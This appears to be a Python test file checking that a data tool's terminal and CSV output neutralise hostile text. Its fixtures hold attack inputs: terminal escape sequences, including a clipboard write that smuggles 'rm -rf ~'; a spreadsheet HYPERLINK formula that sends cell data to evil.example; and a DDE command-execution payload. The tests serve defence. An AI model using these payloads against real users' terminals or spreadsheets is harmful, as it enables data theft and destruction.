"""Text from outside steers no terminal and runs in no spreadsheet, wherever `lake` shows it."""

import csv
import io
import json
import unicodedata
from contextlib import redirect_stdout
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from operations.command.coverage_view import open_table
from operations.command.query import print_csv, result_table
from operations.command.screen import console, print_json
from operations.command.trial_view import outcome, quarantine_table
from operations.lake.athena import Column, QueryResult
from operations.lake.coverage import Coverage, OpenWindow
from operations.printable import printable, printable_json, printable_line, spreadsheet_cell

STEERING = {
    "terminal title": "\x1b]0;owned\x07",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "hidden text": "\x1b[8msecret\x1b[0m",
    "8-bit control": "\x9b31mred",
    "carriage return": "paid\runpaid",
    "bidirectional": "abc\u202etxt.exe",
    "line separator": "one\u2028two",
    "tag characters": "a\U000e0041",
}
MARKUP = ["\\[link=https://evil.example]invoice\\[/link]", "[bold]", "[/]", ":warning:", "[[red]]"]
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"ok")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1", "\r=1"]


def _is_steering(character: str) -> bool:
    return character not in "\n\t\u00ad\u200c\u200d" and unicodedata.category(character) in {"Cc", "Cf", "Zl", "Zp"}


def _answer(*values: str) -> QueryResult:
    columns = [Column("sku", "varchar"), Column("amount", "decimal(18,2)"), Column("units", "integer")]
    return QueryResult("query", columns, [(value, "-5.00", -2) for value in values], 1, 1)


def _shown(*renderables: object) -> str:
    with redirect_stdout(io.StringIO()) as out:
        for renderable in renderables:
            console().print(renderable)
    return out.getvalue()


def _comma_separated(answer: QueryResult, *, raw: bool = False) -> list[list[str]]:
    with redirect_stdout(io.StringIO(newline="")) as out:
        print_csv(answer, raw=raw)
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


@given(st.text())
def test_nothing_that_is_shown_steers(text: str) -> None:
    for shown in (printable(text), printable_line(text), printable_json([text]), spreadsheet_cell(text)):
        assert not any(map(_is_steering, shown))
    assert not set("\n\t") & set(printable_line(text))


@given(st.text(st.characters(categories=["L", "N", "P", "S", "Zs", "M"])))
def test_readable_text_is_shown_as_it_is(text: str) -> None:
    assert printable(text) == printable_line(text) == text


@given(st.text())
def test_json_says_the_same_to_programs(text: str) -> None:
    assert json.loads(printable_json({"value": text})) == {"value": text}


@pytest.mark.parametrize("value", STEERING.values(), ids=STEERING)
def test_no_view_lets_a_sequence_through(value: str) -> None:
    window = OpenWindow("2026-11-01", "refused", value, None)
    row = Coverage("northwind", "orders", "all", "DE", None, None, 1, 0, 0, [window], [])
    refused = {"refused": {"code": "unreadable", "message": value}}
    quarantined = [{"line": 1, "column": value, "reason": value, "row": value}]
    shown = _shown(
        result_table(_answer(value), title=value),
        open_table([row], datetime(2026, 11, 26, tzinfo=UTC)),
        outcome(refused),
        quarantine_table(quarantined),
        value,
    )
    assert not any(map(_is_steering, shown))
    with redirect_stdout(io.StringIO()) as out:
        print_json({"why": value})
    assert not any(map(_is_steering, out.getvalue()))


@pytest.mark.parametrize("value", MARKUP)
def test_markup_is_text(value: str) -> None:
    assert value in _shown(result_table(_answer(value)))
    assert value in _shown(value)


@pytest.mark.parametrize("value", FORMULAS)
def test_a_spreadsheet_runs_no_text(value: str) -> None:
    header, (sku, amount, units) = _comma_separated(_answer(value))
    assert header == ["sku", "amount", "units"]
    assert sku == "'" + printable(value)
    assert (amount, units) == ("-5.00", "-2"), "numbers stay numbers"


@pytest.mark.parametrize("value", [*FORMULAS, *STEERING.values()])
def test_raw_values_are_exact(value: str) -> None:
    assert _comma_separated(_answer(value), raw=True)[1][0] == value


def test_texts_that_are_no_formulas_get_no_apostrophe() -> None:
    values = ["B07-1", "a=b", "", "Größe", "'=1"]
    assert [row[0] for row in _comma_separated(_answer(*values))[1:]] == values


def test_columns_are_as_wide_as_what_is_shown() -> None:
    lines = _shown(result_table(_answer("\x1b[31mred", "short"))).rstrip().splitlines()
    numbers = {line.index("-5.00") for line in lines if "-5.00" in line}
    assert len(numbers) == 1
